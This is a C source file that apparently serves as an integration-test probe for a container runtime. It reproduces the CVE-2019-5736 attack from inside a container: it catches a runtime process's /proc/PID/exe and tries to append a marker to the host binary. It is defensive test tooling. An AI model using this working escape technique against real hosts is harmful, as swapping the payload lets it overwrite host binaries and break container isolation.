/* SPDX-License-Identifier: GPL-2.0-or-later */
/* exeprobe.c - the CVE-2019-5736 attack, from inside a container (static, so
 * it runs in a busybox rootfs). Used by tests/integration/isolation.bats.
 *
 *   exeprobe PID TIMEOUT_MS   open /proc/PID/exe (a runtime process: the
 *                             waiting init is 1)
 *   exeprobe new TIMEOUT_MS   wait for a new process whose executable is not
 *                             one of the container's (exec's child), stop it
 *                             with SIGSTOP so it cannot finish first, open its
 *                             /proc/PID/exe, SIGCONT it
 * then wait until that process has exec'd or gone, and try to reopen the link
 * for writing and append to it, retrying on ETXTBSY until TIMEOUT_MS. Prints
 * "grabbed LINK" and "write: written|ERRNO-NAME" (or "grabbed nothing"). */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static long now_ms(void)
{
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec * 1000L + ts.tv_nsec / 1000000L;
}

static const char *errname(int e)
{
  switch (e) {
  case EROFS: return "EROFS";
  case EPERM: return "EPERM";
  case EACCES: return "EACCES";
  case ETXTBSY: return "ETXTBSY";
  case ENOENT: return "ENOENT";
  default: return strerror(e);
  }
}

static bool same_file(const struct stat *a, const struct stat *b)
{
  return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

/* A process we did not start ourselves: its exe is neither ours nor busybox. */
static int grab_new(long deadline, pid_t *target)
{
  struct stat mine, bb;
  stat("/proc/self/exe", &mine);
  if (stat("/bin/busybox", &bb) < 0)
    bb = mine;
  pid_t self = getpid();
  while (now_ms() < deadline) {
    for (pid_t pid = self + 1; pid < self + 200; pid++) {
      if (kill(pid, SIGSTOP) < 0)
        continue;
      char path[64];
      snprintf(path, sizeof path, "/proc/%d/exe", (int) pid);
      int fd = open(path, O_RDONLY | O_CLOEXEC);
      struct stat st;
      if (fd >= 0 && fstat(fd, &st) == 0 && !same_file(&st, &mine) && !same_file(&st, &bb)) {
        kill(pid, SIGCONT);
        *target = pid;
        return fd;
      }
      kill(pid, SIGCONT);
      if (fd >= 0)
        close(fd);
    }
  }
  return -1;
}

int main(int argc, char **argv)
{
  if (argc != 3) {
    fprintf(stderr, "usage: exeprobe PID|new TIMEOUT_MS\n");
    return 2;
  }
  setvbuf(stdout, NULL, _IONBF, 0);
  long deadline = now_ms() + atol(argv[2]);
  pid_t target = 0;
  int fd;
  if (strcmp(argv[1], "new") == 0) {
    fd = grab_new(deadline, &target);
  } else {
    target = (pid_t) atoi(argv[1]);
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", (int) target);
    fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
      printf("open %s: %s\n", path, errname(errno));
  }
  if (fd < 0) {
    printf("grabbed nothing\n");
    return 1;
  }
  char link[256], self[64], path[64];
  snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
  ssize_t n = readlink(self, link, sizeof link - 1);
  link[n > 0 ? n : 0] = '\0';
  printf("grabbed %s\n", link);
  /* Until the runtime process has exec'd or gone, the kernel refuses
   * writers (ETXTBSY): wait for that. */
  struct stat first, now;
  fstat(fd, &first);
  snprintf(path, sizeof path, "/proc/%d/exe", (int) target);
  while (now_ms() < deadline && stat(path, &now) == 0 && same_file(&now, &first))
    usleep(2000);
  int e = ETXTBSY;
  while (now_ms() < deadline) {
    int w = open(self, O_WRONLY | O_APPEND | O_CLOEXEC);
    if (w >= 0) {
      ssize_t r = write(w, "\n#PWNED by exeprobe\n", 20);
      e = r == 20 ? 0 : errno;
      close(w);
      if (e == 0) {
        printf("write: written\n");
        return 0;
      }
      break;
    }
    e = errno;
    if (e != ETXTBSY)
      break;
    usleep(10000);
  }
  printf("write: %s\n", errname(e));
  return 1;
}
